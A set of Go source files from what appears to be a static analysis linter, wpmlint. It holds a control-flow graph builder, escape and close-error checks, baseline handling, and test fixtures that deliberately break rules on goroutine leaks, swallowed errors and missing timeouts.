