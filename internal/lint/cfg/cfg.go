// Package cfg builds per-function control-flow graphs over go/ast and runs
// the dataflow analyses wpmlint's flow-sensitive rules consume: reaching
// definitions (shadowing-correct when type information is available) and a
// must-pass path query ("does every path from here to the exit hit X?").
//
// The graph is deliberately small: basic blocks of statements connected by
// labelled edges. Branch conditions stay attached to the block that ends in
// them, so a client can reason about what an edge implies (the spanpair rule
// uses this to treat the false arm of `if span != 0` as span-closed). Defers
// are collected per function — they execute on every exit path, so clients
// treat a defer that satisfies an obligation as satisfying it everywhere.
//
// Approximations, chosen to under-report rather than invent paths:
//
//   - panic(...) and calls whose selector ends in Fatal/Fatalf/Exit terminate
//     the block with an edge straight to the exit.
//   - goto is treated as an exit edge (the repo has no gotos; anything this
//     misses shows up as an unreachable block, never a phantom path).
//   - A switch with a default clause, and every select, must enter one of its
//     cases: no fall-around edge is added. Without a default the fall-around
//     edge exists.
//   - range loops may run zero times (edge around the body); `for { ... }`
//     with no condition has no fall-around edge — only a break leaves it.
package cfg

import (
	"go/ast"
	"go/token"
)

// EdgeKind labels how control leaves a block.
type EdgeKind int

const (
	// Jump is an unconditional transfer (fallthrough, loop back-edge, ...).
	Jump EdgeKind = iota
	// True is the branch taken when the block's Cond evaluates true.
	True
	// False is the branch taken when the block's Cond evaluates false.
	False
)

// Edge is one control transfer.
type Edge struct {
	To   *Block
	Kind EdgeKind
}

// Block is a basic block: statements that execute in sequence, then a
// transfer along one of Succs.
type Block struct {
	Index int
	Stmts []ast.Stmt
	Succs []Edge
	// Cond is the controlling expression when the block ends in a branch
	// (if/for condition); nil otherwise. Range loops and switches leave it
	// nil — their True/False edges mean "entered a body" / "fell around".
	Cond ast.Expr
}

// AddSucc appends an edge; duplicate edges to the same block with the same
// kind are dropped.
func (b *Block) AddSucc(to *Block, kind EdgeKind) {
	for _, e := range b.Succs {
		if e.To == to && e.Kind == kind {
			return
		}
	}
	b.Succs = append(b.Succs, Edge{To: to, Kind: kind})
}

// Graph is one function body's control-flow graph.
type Graph struct {
	Entry  *Block
	Exit   *Block // synthetic; every return/panic/fallthrough-to-end edges here
	Blocks []*Block
	// Defers are the function's defer statements in source order. They run
	// on every path to Exit; clients that look for an obligation met on all
	// paths should check Defers first.
	Defers []*ast.DeferStmt
	// Returns are the return statements, with the block each terminates.
	Returns []ReturnSite
}

// ReturnSite pairs a return statement with its block.
type ReturnSite struct {
	Stmt  *ast.ReturnStmt
	Block *Block
}

// builder carries the construction state.
type builder struct {
	g *Graph
	// cur is the block under construction; nil after a terminator until the
	// next statement starts a fresh (unreachable) block.
	cur *Block
	// breakTo / continueTo are the innermost targets; label targets extend
	// them.
	breakTo    []*Block
	continueTo []*Block
	// labels maps a label name to the break/continue targets of the loop or
	// switch it labels.
	labelBreak    map[string]*Block
	labelContinue map[string]*Block
}

// New builds the graph for one function or closure body. A nil body yields a
// graph whose entry falls straight to exit.
func New(body *ast.BlockStmt) *Graph {
	g := &Graph{}
	b := &builder{g: g, labelBreak: map[string]*Block{}, labelContinue: map[string]*Block{}}
	g.Entry = b.newBlock()
	g.Exit = &Block{Index: -1}
	b.cur = g.Entry
	if body != nil {
		b.stmts(body.List)
	}
	if b.cur != nil {
		b.cur.AddSucc(g.Exit, Jump)
	}
	g.Exit.Index = len(g.Blocks)
	g.Blocks = append(g.Blocks, g.Exit)
	return g
}

func (b *builder) newBlock() *Block {
	blk := &Block{Index: len(b.g.Blocks)}
	b.g.Blocks = append(b.g.Blocks, blk)
	return blk
}

// ensure returns the block under construction, starting a fresh one if the
// previous statement was a terminator (making the new block unreachable —
// kept so its statements still appear in exactly one block).
func (b *builder) ensure() *Block {
	if b.cur == nil {
		b.cur = b.newBlock()
	}
	return b.cur
}

func (b *builder) stmts(list []ast.Stmt) {
	for _, s := range list {
		b.stmt(s)
	}
}

// terminatorCall reports whether a call expression never returns: panic, or
// a selector ending in Exit/Fatal/Fatalf (os.Exit, log.Fatal, t.Fatalf).
func terminatorCall(e ast.Expr) bool {
	call, ok := e.(*ast.CallExpr)
	if !ok {
		return false
	}
	switch fn := call.Fun.(type) {
	case *ast.Ident:
		return fn.Name == "panic"
	case *ast.SelectorExpr:
		switch fn.Sel.Name {
		case "Exit", "Fatal", "Fatalf":
			return true
		}
	}
	return false
}

func (b *builder) stmt(s ast.Stmt) {
	switch x := s.(type) {
	case *ast.ReturnStmt:
		blk := b.ensure()
		blk.Stmts = append(blk.Stmts, s)
		blk.AddSucc(b.g.Exit, Jump)
		b.g.Returns = append(b.g.Returns, ReturnSite{Stmt: x, Block: blk})
		b.cur = nil
	case *ast.BranchStmt:
		blk := b.ensure()
		blk.Stmts = append(blk.Stmts, s)
		switch x.Tok {
		case token.BREAK:
			if t := b.branchTarget(x.Label, b.breakTo, b.labelBreak); t != nil {
				blk.AddSucc(t, Jump)
			} else {
				blk.AddSucc(b.g.Exit, Jump)
			}
		case token.CONTINUE:
			if t := b.branchTarget(x.Label, b.continueTo, b.labelContinue); t != nil {
				blk.AddSucc(t, Jump)
			} else {
				blk.AddSucc(b.g.Exit, Jump)
			}
		case token.GOTO:
			blk.AddSucc(b.g.Exit, Jump) // approximation; see package doc
		case token.FALLTHROUGH:
			// handled by the switch builder adding a next-case edge; the
			// statement itself ends the block
		}
		b.cur = nil
	case *ast.DeferStmt:
		blk := b.ensure()
		blk.Stmts = append(blk.Stmts, s)
		b.g.Defers = append(b.g.Defers, x)
	case *ast.ExprStmt:
		blk := b.ensure()
		blk.Stmts = append(blk.Stmts, s)
		if terminatorCall(x.X) {
			blk.AddSucc(b.g.Exit, Jump)
			b.cur = nil
		}
	case *ast.BlockStmt:
		b.stmts(x.List)
	case *ast.IfStmt:
		b.ifStmt(x)
	case *ast.ForStmt:
		b.forStmt(x, "")
	case *ast.RangeStmt:
		b.rangeStmt(x, "")
	case *ast.SwitchStmt:
		b.switchStmt(x.Init, x.Tag != nil, caseClauses(x.Body), hasDefault(x.Body), "")
	case *ast.TypeSwitchStmt:
		b.switchStmt(x.Init, true, caseClauses(x.Body), hasDefault(x.Body), "")
	case *ast.SelectStmt:
		b.selectStmt(x, "")
	case *ast.LabeledStmt:
		b.labeled(x)
	default:
		blk := b.ensure()
		blk.Stmts = append(blk.Stmts, s)
	}
}

func (b *builder) branchTarget(label *ast.Ident, stack []*Block, labelled map[string]*Block) *Block {
	if label != nil {
		return labelled[label.Name]
	}
	if len(stack) == 0 {
		return nil
	}
	return stack[len(stack)-1]
}

func (b *builder) labeled(x *ast.LabeledStmt) {
	// register the label's targets before building the labelled construct so
	// `break L` / `continue L` inside resolve; non-loop labelled statements
	// just build through.
	switch inner := x.Stmt.(type) {
	case *ast.ForStmt:
		b.forStmt(inner, x.Label.Name)
	case *ast.RangeStmt:
		b.rangeStmt(inner, x.Label.Name)
	case *ast.SwitchStmt:
		b.switchStmt(inner.Init, inner.Tag != nil, caseClauses(inner.Body), hasDefault(inner.Body), x.Label.Name)
	case *ast.TypeSwitchStmt:
		b.switchStmt(inner.Init, true, caseClauses(inner.Body), hasDefault(inner.Body), x.Label.Name)
	case *ast.SelectStmt:
		b.selectStmt(inner, x.Label.Name)
	default:
		b.stmt(x.Stmt)
	}
}

func (b *builder) ifStmt(x *ast.IfStmt) {
	blk := b.ensure()
	if x.Init != nil {
		blk.Stmts = append(blk.Stmts, x.Init)
	}
	blk.Cond = x.Cond
	join := &Block{} // allocated lazily into the graph only if reachable

	thenEntry := b.newBlock()
	blk.AddSucc(thenEntry, True)
	b.cur = thenEntry
	b.stmts(x.Body.List)
	thenOut := b.cur

	var elseOut *Block
	elseTaken := false
	if x.Else != nil {
		elseEntry := b.newBlock()
		blk.AddSucc(elseEntry, False)
		b.cur = elseEntry
		b.stmt(x.Else)
		elseOut = b.cur
		elseTaken = true
	}

	// wire the join
	b.cur = nil
	needJoin := thenOut != nil || elseOut != nil || !elseTaken
	if !needJoin {
		return
	}
	join.Index = len(b.g.Blocks)
	b.g.Blocks = append(b.g.Blocks, join)
	if !elseTaken {
		blk.AddSucc(join, False)
	}
	if thenOut != nil {
		thenOut.AddSucc(join, Jump)
	}
	if elseOut != nil {
		elseOut.AddSucc(join, Jump)
	}
	b.cur = join
}

func (b *builder) forStmt(x *ast.ForStmt, label string) {
	pre := b.ensure()
	if x.Init != nil {
		pre.Stmts = append(pre.Stmts, x.Init)
	}
	head := b.newBlock()
	pre.AddSucc(head, Jump)
	join := b.newBlock()
	post := b.newBlock() // continue target; runs Post then jumps to head

	if x.Post != nil {
		post.Stmts = append(post.Stmts, x.Post)
	}
	post.AddSucc(head, Jump)

	body := b.newBlock()
	if x.Cond != nil {
		head.Cond = x.Cond
		head.AddSucc(body, True)
		head.AddSucc(join, False)
	} else {
		head.AddSucc(body, Jump) // `for {}`: only break reaches join
	}

	b.breakTo = append(b.breakTo, join)
	b.continueTo = append(b.continueTo, post)
	if label != "" {
		b.labelBreak[label] = join
		b.labelContinue[label] = post
	}
	b.cur = body
	b.stmts(x.Body.List)
	if b.cur != nil {
		b.cur.AddSucc(post, Jump)
	}
	b.breakTo = b.breakTo[:len(b.breakTo)-1]
	b.continueTo = b.continueTo[:len(b.continueTo)-1]
	b.cur = join
}

func (b *builder) rangeStmt(x *ast.RangeStmt, label string) {
	pre := b.ensure()
	head := b.newBlock()
	// the range statement itself lives in the head block so clients see the
	// key/value definitions and the ranged expression there
	head.Stmts = append(head.Stmts, x)
	pre.AddSucc(head, Jump)
	join := b.newBlock()
	body := b.newBlock()
	head.AddSucc(body, True)  // entered an iteration
	head.AddSucc(join, False) // empty (or exhausted) range

	b.breakTo = append(b.breakTo, join)
	b.continueTo = append(b.continueTo, head)
	if label != "" {
		b.labelBreak[label] = join
		b.labelContinue[label] = head
	}
	b.cur = body
	b.stmts(x.Body.List)
	if b.cur != nil {
		b.cur.AddSucc(head, Jump)
	}
	b.breakTo = b.breakTo[:len(b.breakTo)-1]
	b.continueTo = b.continueTo[:len(b.continueTo)-1]
	b.cur = join
}

func caseClauses(body *ast.BlockStmt) []*ast.CaseClause {
	var out []*ast.CaseClause
	for _, s := range body.List {
		if cc, ok := s.(*ast.CaseClause); ok {
			out = append(out, cc)
		}
	}
	return out
}

func hasDefault(body *ast.BlockStmt) bool {
	for _, s := range body.List {
		if cc, ok := s.(*ast.CaseClause); ok && cc.List == nil {
			return true
		}
	}
	return false
}

// switchStmt builds expression and type switches. exhaustive means one case
// must be entered (a default clause exists), so no fall-around edge is made.
func (b *builder) switchStmt(init ast.Stmt, _ bool, cases []*ast.CaseClause, exhaustive bool, label string) {
	head := b.ensure()
	if init != nil {
		head.Stmts = append(head.Stmts, init)
	}
	join := b.newBlock()
	b.breakTo = append(b.breakTo, join)
	if label != "" {
		b.labelBreak[label] = join
	}
	entries := make([]*Block, len(cases))
	for i := range cases {
		entries[i] = b.newBlock()
		head.AddSucc(entries[i], Jump)
	}
	for i, cc := range cases {
		b.cur = entries[i]
		b.stmts(cc.Body)
		if b.cur != nil {
			// fallthrough (rare) also lands here: approximate by an edge to
			// the next case body when the final statement is a fallthrough
			if n := len(cc.Body); n > 0 {
				if br, ok := cc.Body[n-1].(*ast.BranchStmt); ok && br.Tok == token.FALLTHROUGH && i+1 < len(entries) {
					b.cur.AddSucc(entries[i+1], Jump)
					continue
				}
			}
			b.cur.AddSucc(join, Jump)
		}
	}
	if !exhaustive || len(cases) == 0 {
		head.AddSucc(join, Jump)
	}
	b.breakTo = b.breakTo[:len(b.breakTo)-1]
	b.cur = join
}

// selectStmt builds a select: exactly one comm clause runs (a select with no
// default blocks until one can), so there is never a fall-around edge.
func (b *builder) selectStmt(x *ast.SelectStmt, label string) {
	head := b.ensure()
	join := b.newBlock()
	b.breakTo = append(b.breakTo, join)
	if label != "" {
		b.labelBreak[label] = join
	}
	any := false
	for _, s := range x.Body.List {
		cc, ok := s.(*ast.CommClause)
		if !ok {
			continue
		}
		any = true
		entry := b.newBlock()
		if cc.Comm != nil {
			entry.Stmts = append(entry.Stmts, cc.Comm)
		}
		head.AddSucc(entry, Jump)
		b.cur = entry
		b.stmts(cc.Body)
		if b.cur != nil {
			b.cur.AddSucc(join, Jump)
		}
	}
	if !any {
		// `select {}` blocks forever: no successor at all
		b.cur = nil
		b.breakTo = b.breakTo[:len(b.breakTo)-1]
		return
	}
	b.breakTo = b.breakTo[:len(b.breakTo)-1]
	b.cur = join
}

// Reachable reports whether to is reachable from from (following any edges).
func (g *Graph) Reachable(from, to *Block) bool {
	seen := make([]bool, len(g.Blocks)+1)
	var dfs func(b *Block) bool
	dfs = func(b *Block) bool {
		if b == to {
			return true
		}
		if b.Index >= 0 && b.Index < len(seen) {
			if seen[b.Index] {
				return false
			}
			seen[b.Index] = true
		}
		for _, e := range b.Succs {
			if dfs(e.To) {
				return true
			}
		}
		return false
	}
	return dfs(from)
}
