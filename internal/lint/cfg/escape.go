// Escape facts: how a local variable's value leaves the function. The
// spanpair rule uses this to hand responsibility over — a span id that is
// returned, stored, or passed onward is owned by whoever received it.

package cfg

import "go/ast"

// Escape describes every way a named local's value left the function body.
type Escape struct {
	// Returned: the variable appears in a return statement's results.
	Returned bool
	// Arg: passed as an argument to some call (calls excluded by the filter
	// don't count).
	Arg bool
	// Stored: assigned onward (to another variable, field, index expression)
	// or placed in a composite literal.
	Stored bool
	// Sent: sent on a channel.
	Sent bool
}

// Any reports whether the value escaped at all.
func (e Escape) Any() bool { return e.Returned || e.Arg || e.Stored || e.Sent }

// VarEscapes classifies how the variable named v escapes body. excludeCall,
// when non-nil, names calls that do not count as escapes (the spanpair rule
// excludes Begin/End calls — passing the id to End is the obligation itself,
// not an escape). Assignments whose RHS is an excluded call do not count as
// stores either (re-binding the id from another Begin).
func VarEscapes(body ast.Node, v string, excludeCall func(*ast.CallExpr) bool) Escape {
	var esc Escape
	excluded := func(c *ast.CallExpr) bool { return excludeCall != nil && excludeCall(c) }
	ast.Inspect(body, func(n ast.Node) bool {
		switch x := n.(type) {
		case *ast.CallExpr:
			if excluded(x) {
				return false
			}
			for _, a := range x.Args {
				if ContainsIdent(a, v) {
					esc.Arg = true
				}
			}
		case *ast.ReturnStmt:
			for _, r := range x.Results {
				if ContainsIdent(r, v) {
					esc.Returned = true
				}
			}
		case *ast.AssignStmt:
			for _, r := range x.Rhs {
				if call, ok := r.(*ast.CallExpr); ok && excluded(call) {
					continue
				}
				if ContainsIdent(r, v) {
					esc.Stored = true
				}
			}
		case *ast.CompositeLit:
			for _, el := range x.Elts {
				if ContainsIdent(el, v) {
					esc.Stored = true
				}
			}
		case *ast.SendStmt:
			if ContainsIdent(x.Value, v) {
				esc.Sent = true
			}
		}
		return true
	})
	return esc
}

// ContainsIdent reports whether n contains a plain identifier named v.
func ContainsIdent(n ast.Node, v string) bool {
	if n == nil {
		return false
	}
	found := false
	ast.Inspect(n, func(m ast.Node) bool {
		if id, ok := m.(*ast.Ident); ok && id.Name == v {
			found = true
		}
		return true
	})
	return found
}
