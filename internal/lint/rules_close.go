package lint

import (
	"fmt"
	"go/ast"
)

// closeNames are the method names whose discarded error result closecheck
// flags: the calls that surface buffered-write and durability failures.
var closeNames = map[string]bool{"Close": true, "Sync": true, "Flush": true}

// checkClose enforces the closecheck rule in two layers. The syntactic layer
// flags statement-position Close/Sync/Flush method calls whose error result
// vanishes (the original rule). The dataflow layer flags an error captured
// from such a call into a variable that no path ever reads — `err :=
// f.Close()` followed by nothing is the same swallowed durability failure
// wearing an assignment as a disguise. Reaching definitions (keyed by
// types.Object, so shadowing is handled) decide whether any use sees the def.
func checkClose(p *Pass) {
	// layer 1: statement-position discards
	for _, f := range p.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			switch x := n.(type) {
			case *ast.ExprStmt:
				p.checkDiscardedClose(f, x.X, false)
			case *ast.DeferStmt:
				p.checkDiscardedClose(f, x.Call, true)
			}
			return true
		})
	}
	// layer 2: captured-but-never-read error defs
	p.EachFuncDecl(func(f *ast.File, fd *ast.FuncDecl) {
		p.checkDeadCloseDefs(f, fd.Body, namedResults(fd.Type))
		ast.Inspect(fd.Body, func(n ast.Node) bool {
			if fl, ok := n.(*ast.FuncLit); ok {
				p.checkDeadCloseDefs(f, fl.Body, namedResults(fl.Type))
			}
			return true
		})
	})
}

// checkDiscardedClose flags a statement-position Close/Sync/Flush method call
// whose error result vanishes. It needs resolved types — a call the lenient
// type-checker cannot type (a method on an un-compiled cross-package value)
// is skipped rather than guessed at, so the rule never false-positives on
// error-free signatures.
func (p *Pass) checkDiscardedClose(f *ast.File, e ast.Expr, deferred bool) {
	call, ok := e.(*ast.CallExpr)
	if !ok {
		return
	}
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok || !closeNames[sel.Sel.Name] {
		return
	}
	if deferred && sel.Sel.Name == "Close" {
		return // `defer f.Close()` is the idiomatic read-path cleanup
	}
	if p.SelPkg(f, sel) != "" {
		return // pkg.Close(...) is a function, not a method on a handle
	}
	if !callReturnsError(p, call) {
		return
	}
	verb := "dropped"
	if deferred {
		verb = "deferred and dropped"
	}
	p.Report("closecheck", call.Pos(),
		fmt.Sprintf("%s error %s; on a written file this IS the write error of record — check it, or discard explicitly with `_ = x.%s()`",
			sel.Sel.Name, verb, sel.Sel.Name))
}

// callReturnsError reports whether call has the single resolved result type
// `error`.
func callReturnsError(p *Pass, call *ast.CallExpr) bool {
	tv, ok := p.Info.Types[call]
	if !ok || tv.IsVoid() || tv.Type == nil {
		return false
	}
	return tv.Type.String() == "error"
}

// namedResults collects the named result parameters of a function type; a
// naked `return` reads them implicitly, invisibly to the dataflow scan.
func namedResults(ft *ast.FuncType) map[string]bool {
	out := map[string]bool{}
	if ft == nil || ft.Results == nil {
		return out
	}
	for _, fld := range ft.Results.List {
		for _, n := range fld.Names {
			out[n.Name] = true
		}
	}
	return out
}

// checkDeadCloseDefs flags `err := x.Close()` (or Sync/Flush) definitions
// that reach no use on any path: the error was captured for show and
// swallowed in substance.
func (p *Pass) checkDeadCloseDefs(f *ast.File, body *ast.BlockStmt, results map[string]bool) {
	r := p.Reach(body)
	for _, d := range r.Defs {
		as, ok := d.Stmt.(*ast.AssignStmt)
		if !ok || len(as.Lhs) != 1 || len(as.Rhs) != 1 {
			continue
		}
		if as.Lhs[0] != ast.Expr(d.Ident) {
			continue
		}
		if results[d.Ident.Name] {
			continue // writes to a named result feed the naked return
		}
		call, ok := as.Rhs[0].(*ast.CallExpr)
		if !ok {
			continue
		}
		sel, ok := call.Fun.(*ast.SelectorExpr)
		if !ok || !closeNames[sel.Sel.Name] || p.SelPkg(f, sel) != "" {
			continue
		}
		if !callReturnsError(p, call) {
			continue
		}
		if inFuncLit(body, as) {
			continue // a nested closure's defs are that closure's pass
		}
		if !r.DefReachesUse(d) {
			p.Report("closecheck", as.Pos(),
				fmt.Sprintf("%s error captured in %q but never read on any path; check it, or discard explicitly with `_ = x.%s()`",
					sel.Sel.Name, d.Ident.Name, sel.Sel.Name))
		}
	}
}

// inFuncLit reports whether stmt sits inside a function literal nested in
// body (such statements appear in the outer CFG only via the closure's
// declaration statement and belong to the closure's own analysis).
func inFuncLit(body *ast.BlockStmt, stmt ast.Stmt) bool {
	found := false
	ast.Inspect(body, func(n ast.Node) bool {
		if fl, ok := n.(*ast.FuncLit); ok {
			if containsStmt(fl.Body, stmt) {
				found = true
			}
			return false
		}
		return true
	})
	return found
}

func containsStmt(root ast.Node, stmt ast.Stmt) bool {
	found := false
	ast.Inspect(root, func(n ast.Node) bool {
		if n == ast.Node(stmt) {
			found = true
		}
		return true
	})
	return found
}
