package lint

import (
	"encoding/json"
	"fmt"
	"os"
	"sort"
)

// A Baseline is the set of findings a repo has decided to tolerate for now:
// debt that is recorded, visible and reviewed, instead of silently blocking
// every CI run until someone fixes it. Entries deliberately carry no line
// number — matching is on (rule, file, message), so editing unrelated code
// above a tolerated finding does not shift it out of the baseline and break
// the build. Matching is multiset-style: a baseline entry absorbs exactly one
// finding, so a *second* identical violation in the same file still fails.
type Baseline struct {
	counts map[baselineKey]int
}

type baselineKey struct {
	Rule string
	File string
	Msg  string
}

// baselineEntry is the on-disk form of one tolerated finding.
type baselineEntry struct {
	Rule string `json:"rule"`
	File string `json:"file"`
	Msg  string `json:"msg"`
}

// baselineDoc is the on-disk document. The comment rides along so a reader
// opening the file cold knows what it is and how to regenerate it.
type baselineDoc struct {
	Comment  string          `json:"comment"`
	Findings []baselineEntry `json:"findings"`
}

const baselineComment = "wpmlint baseline: findings tolerated by `make lint`. Regenerate with `wpmlint -baseline <path> -update-baseline <dirs>`. Entries match on (rule, file, message) — no line numbers — so unrelated edits do not break the build."

// LoadBaseline reads a baseline file written by WriteBaseline.
func LoadBaseline(path string) (*Baseline, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("lint: baseline: %w", err)
	}
	var doc baselineDoc
	if err := json.Unmarshal(data, &doc); err != nil {
		return nil, fmt.Errorf("lint: baseline %s: %w", path, err)
	}
	b := &Baseline{counts: map[baselineKey]int{}}
	for _, e := range doc.Findings {
		b.counts[baselineKey{e.Rule, slashPath(e.File), e.Msg}]++
	}
	return b, nil
}

// WriteBaseline records the given findings as the new tolerated set.
func WriteBaseline(path string, findings []Finding) error {
	doc := baselineDoc{Comment: baselineComment, Findings: []baselineEntry{}}
	for _, f := range findings {
		doc.Findings = append(doc.Findings, baselineEntry{
			Rule: f.Rule, File: slashPath(f.Pos.Filename), Msg: f.Msg,
		})
	}
	sort.Slice(doc.Findings, func(i, j int) bool {
		a, b := doc.Findings[i], doc.Findings[j]
		if a.File != b.File {
			return a.File < b.File
		}
		if a.Rule != b.Rule {
			return a.Rule < b.Rule
		}
		return a.Msg < b.Msg
	})
	data, err := json.MarshalIndent(doc, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(data, '\n'), 0o644)
}

// Filter drops findings the baseline tolerates and returns the rest. Each
// baseline entry is consumed at most once.
func (b *Baseline) Filter(findings []Finding) []Finding {
	left := make(map[baselineKey]int, len(b.counts))
	for k, n := range b.counts {
		left[k] = n
	}
	var out []Finding
	for _, f := range findings {
		k := baselineKey{f.Rule, slashPath(f.Pos.Filename), f.Msg}
		if left[k] > 0 {
			left[k]--
			continue
		}
		out = append(out, f)
	}
	return out
}
