package bad

import (
	"context"
	"net/http"
	"time"
)

// WaitBad violates ctxpropagate three ways while holding a ctx: a sleep, a
// context-free HTTP helper, and a bare channel receive. Each one ignores the
// cancellation the caller threaded through.
func WaitBad(ctx context.Context, ch chan int) int {
	time.Sleep(time.Millisecond)                  // want ctxpropagate
	resp, err := http.Get("http://example.test/") // want ctxpropagate
	if err == nil {
		_ = resp.Body.Close() // read-path close; visibly discarded
	}
	return <-ch // want ctxpropagate
}

// WaitGood is the legal shape: every block point sits in a select next to
// ctx.Done().
func WaitGood(ctx context.Context, ch chan int) int {
	select {
	case <-ctx.Done():
		return 0
	case v := <-ch:
		return v
	}
}
