package bad

import "errors"

func mightFail() error { return errors.New("boom") }

// DropStmt violates errswallow: the error result vanishes at statement
// position.
func DropStmt() {
	mightFail() // want errswallow
}

// DropBlank violates errswallow: the discard below carries no justifying
// comment on its own line or the line above it.
func DropBlank() {
	x := 0
	_ = x
	_ = mightFail()
}

// CheckOrJustify is the legal shape: checked, or visibly discarded with a
// written reason adjacent to the discard.
func CheckOrJustify() error {
	if err := mightFail(); err != nil {
		return err
	}
	_ = mightFail() // fixture: this failure is expected and harmless
	return nil
}
