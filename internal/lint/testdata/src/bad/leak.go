package bad

// work stands in for a unit of goroutine labour.
func work() {}

// spin loops forever with no exit path at all: no return, no break, no
// panic. Started as a goroutine it can never be shut down.
func spin() {
	for {
		work()
	}
}

// LeakNamed violates goroutineleak through the fact store: the loop lives in
// another function of the package.
func LeakNamed() {
	go spin() // want goroutineleak
}

// LeakLiteral violates goroutineleak with a literal body. The unlabelled
// break targets the select, not the loop — the classic non-exit.
func LeakLiteral(ch chan int) {
	go func() {
		for { // want goroutineleak
			select {
			case <-ch:
				break
			}
		}
	}()
}

// DrainGuarded is the legal shape: the loop has a reachable return.
func DrainGuarded(done chan struct{}) {
	go func() {
		for {
			select {
			case <-done:
				return
			default:
				work()
			}
		}
	}()
}
