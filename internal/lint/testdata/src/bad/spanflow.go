package bad

// VisitFallsOff violates spanpair's path check: the End sits behind an
// unrelated condition, and the false arm falls off the function end with the
// span still open. The old optimistic walker missed this shape; the CFG
// does not.
func VisitFallsOff(f flight, ok bool) {
	span := f.Begin("visit", 0, 0) // want spanpair
	if ok {
		f.End(span, "visit", 1)
	}
}

// VisitGuardFallOff is the legal guard idiom: on the fall-through edge the
// guard proves span == 0, so there is provably nothing to End.
func VisitGuardFallOff(f flight) {
	span := f.Begin("visit", 0, 0)
	if span != 0 {
		f.End(span, "visit", 1)
	}
}
