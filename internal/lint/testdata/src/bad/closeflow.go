package bad

// SealSilently violates closecheck's dataflow layer: the Close error is
// captured for show and read by nothing on any path.
func SealSilently(f wfile) {
	err := f.Close() // want closecheck
	work()
}

// SealOverwritten violates closecheck's dataflow layer through a kill: the
// captured error is overwritten before anything reads it, so the Close def
// reaches no use even though the variable itself does.
func SealOverwritten(f wfile) error {
	err := f.Close() // want closecheck
	err = nil
	return err
}

// SealCondChecked is the legal shape the cond-expression case exercises: the
// only read of err is in the if condition, which lives on the CFG block, not
// in its statement list.
func SealCondChecked(f wfile) error {
	if err := f.Close(); err != nil {
		return err
	}
	return nil
}
