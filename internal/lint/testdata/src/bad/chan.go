package bad

// FanOutBad violates chanbuffer: one stalled subscriber parks this loop — and
// every subscriber queued behind it — forever.
func FanOutBad(subs []chan int, v int) {
	for _, ch := range subs {
		ch <- v // want chanbuffer
	}
}

// FanOutGood is the legal shape: drop rather than stall; the counter makes
// the loss observable.
func FanOutGood(subs []chan int, v int) int {
	dropped := 0
	for _, ch := range subs {
		select {
		case ch <- v:
		default:
			dropped++
		}
	}
	return dropped
}
