// Package bad is the wpmlint self-test fixture: every determinism invariant
// violated once. The verify script runs wpmlint against this directory and
// requires a non-zero exit; the linter's own testdata skip keeps it out of
// normal "..." walks.
package bad

import (
	"fmt"
	"math/rand"
	"net/http"
	"strings"
	"time"
)

type labels map[string]string

func L(k, v string) labels { return labels{k: v} }

type probe struct{}

func (probe) Enabled() bool                   { return false }
func (probe) Event(name string, ls ...labels) {}

// Stamp violates wallclock: crawl code must not read the wall clock.
func Stamp() int64 {
	return time.Now().UnixNano() // want wallclock
}

// Jitter violates randseed: the package-level functions use the process
// global, unseeded source.
func Jitter() int {
	return rand.Intn(10) // want randseed
}

// Digest violates maprange: serialising while ranging a map emits bytes in
// random order.
func Digest(m map[string]int) string {
	var b strings.Builder
	for k, v := range m { // want maprange
		fmt.Fprintf(&b, "%s=%d;", k, v)
	}
	return b.String()
}

// Emit violates telemetry-nilsafe: the labels are built before the call, so
// they allocate even with telemetry disabled.
func Emit(p probe, site string) {
	p.Event("visit", L("site", site)) // want telemetry-nilsafe
}

// EmitGuarded is the legal shape and must produce no finding.
func EmitGuarded(p probe, site string) {
	if p.Enabled() {
		p.Event("visit", L("site", site))
	}
}

// EmitEarlyReturn is the other legal shape.
func EmitEarlyReturn(p probe, site string) {
	if !p.Enabled() {
		return
	}
	p.Event("visit", L("site", site))
}

// EmitClosureInternalGuard guards inside a returned closure — legal: the
// guard tracker must follow the if-structure into function literals instead
// of flattening them.
func EmitClosureInternalGuard(p probe, site string) func() {
	return func() {
		if p.Enabled() {
			p.Event("visit", L("site", site))
		}
	}
}

// EmitClosureGuardedPath builds the closure on an already-guarded path —
// also legal: Enabled() is constant for a process.
func EmitClosureGuardedPath(p probe, site string) func() {
	if p.Enabled() {
		return func() { p.Event("visit", L("site", site)) }
	}
	return func() {}
}

// Snapshot is the legal canonical-encoder shape: collect, sort elsewhere,
// then serialise — the map range itself only gathers keys.
func Snapshot(m map[string]int) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	return keys
}

type wfile struct{}

func (wfile) Write(p []byte) (int, error) { return len(p), nil }
func (wfile) Close() error                { return nil }
func (wfile) Sync() error                 { return nil }

// Seal violates closecheck twice: on a written file the dropped Close error
// (and the deferred, dropped Sync error) is the write error of record.
func Seal(f wfile) {
	defer f.Sync() // want closecheck
	f.Close()      // want closecheck
}

// SealChecked is the legal shape: the Close error is propagated.
func SealChecked(f wfile) error {
	if err := f.Sync(); err != nil {
		return err
	}
	return f.Close()
}

// SealExplicit discards visibly — legal — and defer f.Close() is the
// idiomatic read-path cleanup, also legal.
func SealExplicit(f wfile) {
	defer f.Close()
	_ = f.Sync()
}

// Serve violates servertimeouts twice: the http.Server literal sets no
// timeouts (write-side WriteTimeout and idle-side IdleTimeout are each an
// obligation; ReadTimeout or ReadHeaderTimeout covers the read side), and
// the bare ListenAndServe helper cannot set any.
func Serve(h http.Handler) error {
	srv := &http.Server{Addr: ":0", Handler: h} // want servertimeouts
	_ = srv
	return http.ListenAndServe(":0", h) // want servertimeouts
}

// ServeTimed is the legal shape: every side of the connection is bounded.
func ServeTimed(h http.Handler) *http.Server {
	return &http.Server{
		Addr:              ":0",
		Handler:           h,
		ReadHeaderTimeout: 10 * time.Second,
		WriteTimeout:      60 * time.Second,
		IdleTimeout:       120 * time.Second,
	}
}

type flight struct{}

func (flight) Begin(name string, parent int64, at float64, ls ...labels) int64 { return 1 }
func (flight) End(span int64, name string, at float64, ls ...labels)           {}

// VisitDiscard violates spanpair: the Begin result is the only handle to the
// span, and it is dropped on the floor.
func VisitDiscard(f flight) {
	f.Begin("visit", 0, 0) // want spanpair
}

// VisitNoEnd violates spanpair: the span id is held but never reaches End.
func VisitNoEnd(f flight) {
	span := f.Begin("visit", 0, 0) // want spanpair
}

// VisitEarlyReturn violates spanpair: the error path returns with the span
